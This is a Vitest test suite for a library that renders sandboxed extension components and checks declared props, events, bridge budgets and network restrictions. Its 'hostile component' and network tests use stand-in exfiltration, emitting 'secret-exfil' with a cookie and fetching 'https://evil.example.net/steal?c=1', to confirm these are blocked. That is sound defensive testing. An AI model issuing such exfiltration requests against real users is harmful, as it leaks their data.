// @vitest-environment jsdom
import { join } from 'node:path';
import { getRegistry, registerComponent, registerSlot, type ExtensionContext } from '@extkit/runtime';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { TestingError, cleanup, render } from './index.js';
import { reach } from './__fixtures__/card/reach.js';

const MANIFEST = join(import.meta.dirname, '__fixtures__/card/manifest.json');
const CARD = 'acme.demo-card.card';
type Ctx = ExtensionContext;
let seen: Ctx[] = [];

function card(ctx: Ctx): () => void {
  seen.push(ctx);
  const h = document.createElement('h2');
  const button = document.createElement('button');
  let likes = 0;
  const paint = (): void => {
    h.textContent = `${String(ctx.config.greeting)}, ${typeof ctx.props.title === 'string' ? ctx.props.title : 'world'}!`;
    button.textContent = `Like (${likes})`;
  };
  button.addEventListener('click', () => ctx.emit('liked', { likes: ++likes }));
  button.addEventListener('click', paint);
  ctx.root.append(h, button);
  paint();
  const off = ctx.onProps(paint);
  const offConfig = ctx.onConfig(paint);
  return () => (off(), offConfig());
}

beforeEach(() => {
  getRegistry().registrations.length = 0;
  seen = [];
  registerComponent(CARD, card);
});

const textOf = (root: HTMLElement): string => root.textContent ?? '';

describe('render', () => {
  it('mounts the registered component with declared props and the coerced defaults', () => {
    const view = render(CARD, { manifest: MANIFEST, props: { title: 'Lisbon' } });
    expect(textOf(view.root)).toBe('Hello, Lisbon!Like (0)');
    expect(view.root.isConnected).toBe(true);
    expect(seen[0]!.config).toEqual({ greeting: 'Hello', limit: 3, accent: 'teal' });
    expect(seen[0]!.surface).toEqual({ kind: 'component', id: CARD });
    expect(view.height).toBe(120);
    view.root.querySelector('button')!.click();
    expect(view.events).toEqual([{ name: 'liked', detail: { likes: 1 } }]);
    expect(view).toHaveEmitted('liked', { likes: 1 });
    expect(view).not.toHaveEmitted('liked', { likes: 2 });
  });

  it('finds manifest.json from a folder, and from the current folder', () => {
    expect(render(CARD, { manifest: join(import.meta.dirname, '__fixtures__/card') }).surface.kind).toBe('component');
    const cwd = process.cwd();
    process.chdir(join(import.meta.dirname, '__fixtures__/card'));
    try {
      expect(textOf(render(CARD).root)).toContain('Hello, world!');
    } finally {
      process.chdir(cwd);
    }
  });

  it('delivers only declared props: the rest are dropped, or fail under strict', () => {
    const view = render(CARD, { manifest: MANIFEST, props: { title: 'A', token: 's3cret' } });
    expect(seen[0]!.props).toEqual({ title: 'A' });
    expect(view.dropped).toEqual([{ kind: 'prop', name: 'token', value: 's3cret' }]);
    expect(view).toHaveDropped('token');
    view.setProps({ title: 'B', role: 'admin' });
    expect(textOf(view.root)).toContain('Hello, B!');
    expect(seen[0]!.props).toEqual({ title: 'B' });
    expect(view.props).toEqual({ title: 'B' });
    expect(() => render(CARD, { manifest: MANIFEST, strict: true, props: { title: 'A', token: 'x' } })).toThrow(
      /"token" is not in capabilities\.props, so the host never delivers it \(declared: "title", "onSave"\)/,
    );
    const strict = render(CARD, { manifest: MANIFEST, strict: true });
    expect(() => strict.setProps({ nope: 1 })).toThrow(TestingError);
  });

  it('applies config over the defaults, and refuses values the settings could never hold', () => {
    const view = render(CARD, { manifest: MANIFEST, config: { greeting: 'Hi', accent: 'plum' } });
    expect(view.config).toEqual({ greeting: 'Hi', limit: 3, accent: 'plum' });
    view.setConfig({ greeting: 'Olá' });
    expect(textOf(view.root)).toContain('Olá, world!');
    expect(seen[0]!.config).toEqual({ greeting: 'Olá', limit: 3, accent: 'teal' });
    const bad = (config: Record<string, unknown>) => () => render(CARD, { manifest: MANIFEST, config });
    expect(bad({ accent: 'red' })).toThrow('"accent" is "red", which is not one of its options: "teal", "plum"');
    expect(bad({ limit: '4' })).toThrow('"limit" is a number field, got "4"');
    expect(bad({ limit: 11 })).toThrow('"limit" is 11, outside its range 1 to 10');
    expect(bad({ colour: 'x' })).toThrow(
      /"colour" is not a config field \(config.fields has "greeting", "limit", "accent"\)/,
    );
    expect(() => view.setConfig({ greeting: 5 })).toThrow(expect.objectContaining({ code: 'testing.config_invalid' }));
  });

  it('fails an undeclared event under strict when the view unmounts, after the mount kept going as in the host', () => {
    let after = false;
    registerComponent(CARD, (ctx) => {
      ctx.emit('secret-exfil', 1);
      ctx.emit('liked');
      ctx.emit('tracking');
      ctx.emit('secret-exfil', 2);
      after = true;
    });
    const view = render(CARD, { manifest: MANIFEST, strict: true });
    expect(after).toBe(true);
    expect(view.events).toEqual([{ name: 'liked', detail: undefined }]);
    expect(() => view.unmount()).toThrow(
      expect.objectContaining({
        code: 'testing.event_undeclared',
        message: expect.stringContaining(
          'emitted "secret-exfil", "tracking", which are not in capabilities.events, so the host dropped them (declared: "liked")',
        ),
      }),
    );
    expect(view.mounted).toBe(false);
    expect(() => view.unmount()).not.toThrow();
    const caught = render(CARD, { manifest: MANIFEST, strict: true });
    expect(cleanup).toThrow(/secret-exfil/);
    expect(caught.mounted).toBe(false);
    expect(() => render(CARD, { manifest: MANIFEST }).unmount()).not.toThrow();
  });

  it('accepts declared events and drops the rest', () => {
    registerComponent(CARD, (ctx) => {
      ctx.emit('liked');
      ctx.emit('secret-exfil', { cookie: 'x' });
    });
    const view = render(CARD, { manifest: MANIFEST });
    expect(view.events).toEqual([{ name: 'liked', detail: undefined }]);
    expect(view.dropped).toEqual([{ kind: 'event', name: 'secret-exfil', detail: { cookie: 'x' } }]);
    expect(view).toHaveDropped('secret-exfil');
    expect(view).not.toHaveEmitted('secret-exfil');
    expect(() => expect(view).toHaveEmitted('secret-exfil')).toThrow(
      /the host dropped it: it is not in capabilities\.events/,
    );
  });

  it('answers function-binding calls from options.functions and refuses other props as the host does', async () => {
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const view = render(CARD, {
      manifest: MANIFEST,
      props: { onSave: 'saveCard' },
      functions: { onSave: (n: number) => ({ saved: n }) },
    });
    await expect(ctx.call('onSave', 1)).resolves.toEqual({ saved: 1 });
    expect(view.calls).toEqual([{ prop: 'onSave', name: 'saveCard', args: [1] }]);
    await expect(ctx.call('title')).rejects.toThrow('"title" is not this component\'s function binding.');
    const failing = render(CARD, {
      manifest: MANIFEST,
      functions: { onSave: () => Promise.reject(new Error('quota')) },
    });
    await expect(ctx.call('onSave')).rejects.toThrow(/^quota$/);
    failing.unmount();
    render(CARD, { manifest: MANIFEST });
    await expect(ctx.call('onSave')).rejects.toThrow(
      /has no answer in this test; pass render\(id, \{ functions: \{ "onSave"/,
    );
  });

  it('sizes the frame as the host does', () => {
    registerSlot('order.sidebar', (ctx) => {
      ctx.setHeight(80.4);
      ctx.setHeight(1e9);
      ctx.setHeight(-3);
    });
    const view = render('order.sidebar', { manifest: MANIFEST });
    expect(view.heights).toEqual([80, 10_000, 0]);
    expect(view.height).toBe(0);
  });

  it('counts a height that is no finite number against the budget, as the frame that sends it does', () => {
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const view = render(CARD, { manifest: MANIFEST });
    for (let i = 0; i < 1_000; i++) ctx.setHeight(Number.NaN);
    ctx.emit('liked', 1);
    expect(view.heights).toEqual([]);
    expect(view.events).toEqual([]);
    expect(view.dropped).toEqual([{ kind: 'over_budget', name: 'liked' }]);
  });

  it('unmounts: runs the cleanup, removes the root, and fails when the cleanup throws', () => {
    const view = render(CARD, { manifest: MANIFEST });
    view.unmount();
    expect(view.mounted).toBe(false);
    expect(view.root.isConnected).toBe(false);
    expect(() => view.setProps({})).toThrow(/is unmounted; render it again/);
    registerComponent(CARD, () => () => {
      throw new Error('leaked timer');
    });
    const bad = render(CARD, { manifest: MANIFEST });
    expect(() => bad.unmount()).toThrow(/the component's cleanup threw: leaked timer/);
    expect(bad.root.isConnected).toBe(false);
  });

  it('cleanup() unmounts every view and reports every cleanup that threw', () => {
    registerComponent(CARD, () => () => {
      throw new Error('boom');
    });
    const a = render(CARD, { manifest: MANIFEST });
    const b = render(CARD, { manifest: MANIFEST });
    expect(() => cleanup()).toThrow(/2 cleanups threw/);
    expect([a.mounted, b.mounted]).toEqual([false, false]);
    expect(() => cleanup()).not.toThrow();
  });
});

describe('render refuses, naming what to fix', () => {
  it('an invalid manifest', () => {
    expect(() => render(CARD, { manifest: { id: 'Bad Id', name: 'x' } })).toThrow(
      /the manifest object given to render\(\) is invalid[\s\S]*id\./,
    );
  });

  it('a missing manifest', () => {
    expect(() => render(CARD, { manifest: '/nowhere/manifest.json' })).toThrow(
      expect.objectContaining({ code: 'testing.manifest_not_found' }),
    );
  });

  it('an id the manifest does not declare', () => {
    expect(() => render('acme.demo-card.crad', { manifest: MANIFEST })).toThrow(
      'render("acme.demo-card.crad"): ' +
        MANIFEST +
        ' does not declare it, so the host would never mount it. It declares: component "acme.demo-card.card" (contributes.site.components), slot "order.sidebar" (contributes.console.slots). Add it to contributes, or render one of these.',
    );
    expect(() => render('shell', { manifest: MANIFEST })).toThrow(/does not declare it/);
  });

  it('an id nothing registered', () => {
    expect(() => render('order.sidebar', { manifest: MANIFEST })).toThrow(
      /nothing registered the slot "order.sidebar"[\s\S]*registerSlot\(id, mount\)\. Registered: component "acme.demo-card.card"\./,
    );
  });

  it('a mount that throws', () => {
    registerComponent(CARD, () => {
      throw new Error('no data');
    });
    expect(() => render(CARD, { manifest: MANIFEST })).toThrow(
      expect.objectContaining({
        code: 'testing.mount_threw',
        message: expect.stringContaining('mount threw: no data'),
      }),
    );
    expect(document.body.children).toHaveLength(0);
  });
});

describe('a hostile component', () => {
  afterEach(() => cleanup());

  it('emitting in a loop: the bridge sends 1,000 a second, as the frame does, judges those and drops the rest over budget', () => {
    registerComponent(CARD, (ctx) => {
      for (let i = 0; i < 50_000; i++) ctx.emit(i % 2 ? 'liked' : 'spam', i);
    });
    const view = render(CARD, { manifest: MANIFEST });
    expect(view.events).toHaveLength(500);
    expect(view.events.at(-1)).toEqual({ name: 'liked', detail: 999 });
    expect(view.dropped.filter((d) => d.kind === 'event')).toHaveLength(500);
    const over = view.dropped.filter((d) => d.kind === 'over_budget');
    expect(over).toHaveLength(49_000);
    expect(over[0]).toEqual({ kind: 'over_budget', name: 'spam' });
  });

  it('mutating its context and what it was given changes nothing the host holds', () => {
    const props = { title: 'T' };
    registerComponent(CARD, (ctx) => {
      (ctx.props as Record<string, unknown>).title = 'hacked';
      (ctx.config as Record<string, unknown>).greeting = 'hacked';
      (ctx as { surface: unknown }).surface = null;
      (ctx as { emit: unknown }).emit = null;
      const detail = { n: 1 };
      ctx.emit?.('liked', detail);
      detail.n = 2;
    });
    const view = render(CARD, { manifest: MANIFEST, props });
    expect(props).toEqual({ title: 'T' });
    expect(view.props).toEqual({ title: 'T' });
    expect(view.config).toMatchObject({ greeting: 'Hello' });
    expect(render(CARD, { manifest: MANIFEST }).config).toMatchObject({ greeting: 'Hello' });
  });

  it("emitting what a port cannot carry, or more than one message carries, is refused in the frame's words, and the mount goes on", () => {
    registerComponent(CARD, (ctx) => {
      ctx.emit('liked', { fn: () => 1 });
      ctx.emit('liked', 'x'.repeat(64 * 1024));
      ctx.emit(42 as unknown as string, 1);
      ctx.emit('liked', 'x'.repeat(64 * 1024 - 'liked'.length - 12));
    });
    const view = render(CARD, { manifest: MANIFEST });
    expect(view.dropped).toEqual([
      {
        kind: 'refused',
        name: 'liked',
        message: expect.stringMatching(
          /^ctx\.emit\('liked'\): its detail cannot be sent to the host and was dropped: it cannot be copied \(.*could not be cloned.*\)\. Send plain data/,
        ),
      },
      {
        kind: 'refused',
        name: 'liked',
        message:
          "ctx.emit('liked'): its detail is over the 64 KB one bridge message carries, so it was dropped. Send less (an id, a summary) and fetch the rest where it is needed.",
      },
      { kind: 'refused', name: '42', message: "ctx.emit(number): an event's name is a string; the emit was dropped." },
    ]);
    expect(view.events).toHaveLength(1);
  });

  it('under strict, an emit the bridge would not send fails the test at unmount, naming why', () => {
    registerComponent(CARD, (ctx) => {
      for (let i = 0; i < 1_010; i++) ctx.emit('liked', i);
    });
    const view = render(CARD, { manifest: MANIFEST, strict: true });
    expect(view.events).toHaveLength(1_000);
    const err = (() => {
      try {
        view.unmount();
      } catch (e) {
        return e as TestingError;
      }
    })();
    expect(err).toBeInstanceOf(TestingError);
    expect(err!.code).toBe('testing.emit_unsent');
    expect(err!.message).toMatch(
      /emitted 10 events the bridge would not send to the host: ctx\.emit\('liked'\): over the bridge's budget of 1000 sends and 1 MB a second, so it was dropped\..* \(and 5 more\)/,
    );
    expect(view.mounted).toBe(false);
  });

  it("the budget is per second on the page's clock: fake timers open the next window, and a height over budget lands when it does", () => {
    vi.useFakeTimers({ toFake: ['performance', 'setTimeout', 'clearTimeout', 'Date'] });
    try {
      let ctx!: Ctx;
      registerComponent(CARD, (c) => void (ctx = c));
      const view = render(CARD, { manifest: MANIFEST });
      for (let i = 0; i < 1_000; i++) ctx.emit('liked', i);
      ctx.emit('liked', 'late');
      ctx.setHeight(200);
      ctx.setHeight(300);
      expect(view.events).toHaveLength(1_000);
      expect(view.dropped).toEqual([{ kind: 'over_budget', name: 'liked' }]);
      expect(view.heights).toEqual([]);
      vi.advanceTimersByTime(1_000);
      expect(view.heights).toEqual([300]);
      ctx.emit('liked', 'next window');
      expect(view.events.at(-1)).toEqual({ name: 'liked', detail: 'next window' });
      // 1 MB a second: sixteen details of 64 KB fill it, the seventeenth waits for the next window.
      vi.advanceTimersByTime(1_000);
      const before = view.events.length;
      for (let i = 0; i < 17; i++) ctx.emit('liked', 'x'.repeat(60 * 1024));
      expect(view.events.length - before).toBe(17);
      for (let i = 0; i < 2; i++) ctx.emit('liked', 'x'.repeat(60 * 1024));
      expect(view.events.length - before).toBe(17);
    } finally {
      vi.useRealTimers();
    }
  });

  it('a call whose arguments cannot cross, or are over one message, or over the budget, rejects with a TypeError and is never answered', async () => {
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const answered: unknown[] = [];
    const view = render(CARD, {
      manifest: MANIFEST,
      props: { onSave: 'save' },
      functions: { onSave: (...a: unknown[]) => answered.push(a) },
    });
    await expect(ctx.call('onSave', () => 1)).rejects.toThrow(
      new TypeError(
        "ctx.call('onSave'): the arguments cannot be sent to the host: it cannot be copied (() => 1 could not be cloned.); pass plain data (no functions or DOM nodes).",
      ),
    );
    await expect(ctx.call('onSave', 'x'.repeat(70_000))).rejects.toThrow(
      /^ctx\.call\('onSave'\): the arguments are over the 64 KB one bridge message carries\.$/,
    );
    for (let i = 0; i < 1_000; i++) void ctx.call('onSave', i);
    await expect(ctx.call('onSave', 'one too many')).rejects.toThrow(
      "ctx.call('onSave'): over the bridge's budget of 1000 sends a second; the call was not made.",
    );
    await vi.waitFor(() => expect(answered).toHaveLength(1_000));
    expect(view.calls).toHaveLength(1_000);
  });

  it("counts a call's prop and its binding's name with its arguments, and refuses a prop that is not a string, as the frame does", async () => {
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const view = render(CARD, {
      manifest: MANIFEST,
      props: { onSave: 'n'.repeat(70_000) },
      functions: { onSave: () => 1 },
    });
    const tooLarge = 'the arguments are over the 64 KB one bridge message carries.';
    await expect(ctx.call('onSave')).rejects.toThrow(new TypeError(`ctx.call('onSave'): ${tooLarge}`));
    await expect(ctx.call('p'.repeat(70_000))).rejects.toThrow(
      new TypeError(`ctx.call('${'p'.repeat(60)}…'): ${tooLarge}`),
    );
    await expect(ctx.call('onSave', new Uint8Array(new ArrayBuffer(1 << 20), 0, 1))).rejects.toThrow(
      new TypeError(`ctx.call('onSave'): ${tooLarge}`),
    );
    await expect(ctx.call(5 as never)).rejects.toThrow(
      new TypeError(
        "ctx.call('5'): the prop to call is a string (the name of the component's function-binding prop); the call was not made.",
      ),
    );
    expect(view.calls).toEqual([]);
  });

  it('emitting after unmount reaches nobody', () => {
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const view = render(CARD, { manifest: MANIFEST });
    view.unmount();
    ctx.emit('liked');
    ctx.setHeight(5);
    expect(view.events).toEqual([]);
    expect(view.heights).toEqual([]);
  });
});

describe('the network', () => {
  it('refuses undeclared origins as the CSP does, naming the manifest line; declared ones go to options.fetch', async () => {
    const seenUrls: string[] = [];
    let ctx!: Ctx;
    registerComponent(CARD, (c) => void (ctx = c));
    const view = render(CARD, {
      manifest: MANIFEST,
      fetch: async (input) => (
        seenUrls.push(input instanceof Request ? input.url : String(input)),
        new Response('{"ok":true}')
      ),
    });
    void ctx;
    await expect((await reach.fetch('https://api.example.com/v1/items')).json()).resolves.toEqual({ ok: true });
    await expect(reach.fetch('https://evil.example.net/steal?c=1')).rejects.toThrow(TypeError);
    await expect(reach.fetch('/relative')).rejects.toThrow(
      /Failed to fetch http:\/\/localhost:3000\/relative: refused by the sandbox's Content-Security-Policy \(connect-src\)/,
    );
    expect(seenUrls).toEqual(['https://api.example.com/v1/items']);
    expect(view.blocked).toEqual([
      {
        url: 'https://evil.example.net/steal?c=1',
        directive: 'connect-src',
        origin: 'https://evil.example.net',
        fix: 'Add "https://evil.example.net" to capabilities.network in manifest.json: "network": ["https://api.example.com","https://evil.example.net"]',
      },
      expect.objectContaining({ origin: 'http://localhost:3000' }),
    ]);
  });

  it('refuses an undeclared XMLHttpRequest with an error event', async () => {
    const view = render(CARD, { manifest: MANIFEST });
    const xhr = reach.xhr('GET', 'https://evil.example.net/x');
    const failed = new Promise((resolve) => xhr.addEventListener('error', resolve));
    await failed;
    expect(view.blocked.map((b) => b.origin)).toEqual(['https://evil.example.net']);
  });

  it('holds a fetch the extension kept before render, and lets requests through when nothing is mounted', async () => {
    const view = render(CARD, { manifest: MANIFEST });
    await expect(reach.kept('https://evil.example.net/x')).rejects.toThrow(TypeError);
    expect(view.blocked.map((b) => b.origin)).toEqual(['https://evil.example.net']);
    view.unmount();
    await expect((await reach.kept('data:text/plain,through')).text()).resolves.toBe('through');
    expect(view.blocked).toHaveLength(1);
  });

  it('guards a fetch the test stubbed before render, sending declared origins to the stub', async () => {
    const stub = vi.fn(async () => new Response('stubbed'));
    vi.stubGlobal('fetch', stub);
    try {
      const view = render(CARD, { manifest: MANIFEST });
      await expect((await reach.fetch('https://api.example.com/a')).text()).resolves.toBe('stubbed');
      await expect(reach.fetch('https://evil.example.net/b')).rejects.toThrow(TypeError);
      expect(stub).toHaveBeenCalledTimes(1);
      expect(view.blocked).toHaveLength(1);
    } finally {
      vi.unstubAllGlobals();
    }
  });
});
